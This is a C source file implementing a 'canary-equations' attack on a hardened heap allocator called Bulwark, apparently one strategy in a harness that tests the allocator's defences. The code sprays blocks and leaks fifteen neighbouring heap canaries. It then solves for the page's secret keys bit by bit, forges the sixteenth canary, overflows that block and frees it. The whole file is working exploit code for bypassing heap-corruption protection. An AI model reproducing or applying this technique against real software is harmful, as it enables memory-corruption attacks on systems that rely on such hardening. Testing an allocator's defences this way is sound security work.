// Against Bulwark's canaries, by who knows how they are made: many leaked canaries of one page, as equations for its keys.
//
// A canary is made of the two halves of (position ⊕ a) · b, XORed; a and b are the page's secrets. Blocks of 64 bytes: the
// positions of 16 neighbours differ in bits 6 to 9 alone. With m for what these bits are in position ⊕ a, the products are
// P + m · 64b, an arithmetic progression. Their upper halves hardly change, so they drop out of the XOR of two canaries;
// what is left is lo ⊕ (lo + m · 64b), which is solved from the lowest bit up, by trying both values of each bit.
#include "attack.h"

#include <stdlib.h>

// Fifteen canaries are read, the sixteenth is forged.
enum { BYTES = 56, STRIDE = 64, GROUP = 16, TARGET = 12, BLOCKS = 512, BITS = 48, LOWEST = 16 };
static void *blocks[BLOCKS];

/// What the bits below the solved ones carry into them, for m = 0 … 15; 4 bits each.
static uint64_t carries[1 << 14];
static size_t carry_count;

static void find_carries(void) {
    for (uint64_t step = 0; step < 1 << LOWEST; step += 64) {
        uint64_t before = UINT64_MAX;
        for (uint64_t start = 0; start < 1 << LOWEST; start += 128) {
            uint64_t all = 0;
            for (uint64_t m = 0; m < GROUP; m++) all |= ((start + m * step) >> LOWEST) << 4 * m;
            if (all == before) continue;
            before = all;
            // Neighbouring steps give mostly the same.
            bool is_known = false;
            for (size_t i = carry_count; i > 0 && carry_count - i < 64 && !is_known; i--) is_known = carries[i - 1] == all;
            if (!is_known && carry_count < sizeof carries / sizeof *carries) carries[carry_count++] = all;
        }
    }
}

/// A solution of the upper 48 bits: `start` + m · `step` + carry(m) is the product's lower half.
struct solution {
    uint64_t start, step, carry;
    unsigned mixed;  // bits 6 to 9 of a position ⊕ a, where the position's are 0
};

static uint64_t leaks[GROUP];  // but the target's

static uint64_t carry(const struct solution *solution, uint64_t m) { return solution->carry >> 4 * m & 15; }
static uint64_t lower(const struct solution *solution, uint64_t m) {
    return solution->start + m * solution->step + carry(solution, m);
}

static bool fits(const struct solution *solution, unsigned bit) {
    const uint64_t first = lower(solution, solution->mixed) ^ leaks[0] >> LOWEST;
    for (unsigned j = 1; j < GROUP; j++) {
        if (j == TARGET) continue;
        const uint64_t other = lower(solution, solution->mixed ^ j) ^ leaks[j] >> LOWEST;
        if ((first ^ other) >> bit & 1) return false;
    }
    return true;
}

static bool solve(struct solution *solution, unsigned bit) {
    if (bit == BITS) return true;
    const struct solution before = *solution;
    for (uint64_t choice = 0; choice < 4; choice++) {
        *solution = before;
        solution->start |= (choice & 1) << bit;
        solution->step |= (choice >> 1) << bit;
        if (fits(solution, bit) && solve(solution, bit + 1)) return true;
    }
    return false;
}

/// The lowest byte: both halves move there, so what is unknown of them is tried out, and the most frequent answer taken.
static uint8_t lowest_byte(const struct solution *solution) {
    static unsigned votes[256];
    for (unsigned code = 0; code < 1u << 17; code++) {
        const unsigned step = (code & 3) << 6, low = code >> 2 & 0xFF, high_step = code >> 10 & 63;
        const uint64_t top = (uint64_t)(code >> 16) << (BITS - 1);
        uint8_t moves[GROUP], lows[GROUP];
        for (unsigned m = 0; m < GROUP; m++) {
            const uint64_t sum = (solution->start & ~(1ull << (BITS - 1))) + top + m * solution->step + carry(solution, m);
            moves[m] = (uint8_t)(sum >> BITS) + (uint8_t)(m * high_step);
            lows[m] = (uint8_t)(low + m * step);
        }
        for (unsigned high = 0; high < 256; high++) {
            bool is_possible = true;
            for (unsigned j = 0; j < GROUP && is_possible; j++) {
                if (j == TARGET) continue;
                const unsigned m = solution->mixed ^ j;
                is_possible = (((uint8_t)(high + moves[m]) ^ lows[m] ^ leaks[j]) & 0xFE) == 0;
            }
            const unsigned m = solution->mixed ^ TARGET;
            if (is_possible) votes[((uint8_t)(high + moves[m]) ^ lows[m]) | 1]++;
        }
    }
    unsigned best = 1;
    for (unsigned byte = 1; byte < 256; byte += 2) best = votes[byte] > votes[best] ? byte : best;
    return (uint8_t)best;
}

/// The first of 16 live blocks in a row whose positions differ in four bits only; NULL if there are none.
static char *row(void) {
    for (size_t i = 0; i < BLOCKS; i++) {
        char *const first = blocks[i];
        if (((uintptr_t)first + BYTES) / STRIDE % GROUP != 0) continue;
        unsigned found = 0;
        for (size_t k = 0; k < BLOCKS; k++) found += (uintptr_t)blocks[k] - (uintptr_t)first < GROUP * STRIDE;
        if (found == GROUP) return first;
    }
    return NULL;
}

static void solved(void) {
    settle_in();
    spray(blocks, BLOCKS, BYTES, CLEAN);
    if (nearest(blocks, BLOCKS).distance != STRIDE) end_round(FAILED);
    char *const first = row();
    if (!first) end_round(FAILED);
    for (unsigned j = 0; j < GROUP; j++) leaks[j] = j == TARGET ? 0 : read_word(first + j * STRIDE + BYTES);
    find_carries();
    for (unsigned mixed = 0; mixed < GROUP; mixed++) {
        for (size_t i = 0; i < carry_count; i++) {
            struct solution solution = {.carry = carries[i], .mixed = mixed};
            if (!solve(&solution, 0)) continue;
            const uint64_t upper = lower(&solution, mixed) ^ leaks[0] >> LOWEST;
            uint64_t forged = (upper ^ lower(&solution, mixed ^ TARGET)) << LOWEST;
            forged |= lowest_byte(&solution);
            // A block whose canary was never read is overflowed, and freed.
            char *const block = first + TARGET * STRIDE;
            write_word(block + BYTES, forged);
            write_word(block + STRIDE, MARK);
            free(block);
            end_if_reached(read_word(block + STRIDE) == MARK);
        }
    }
}

const struct strategy equation_strategies[] = {{"canary-equations", solved}, {NULL, NULL}};
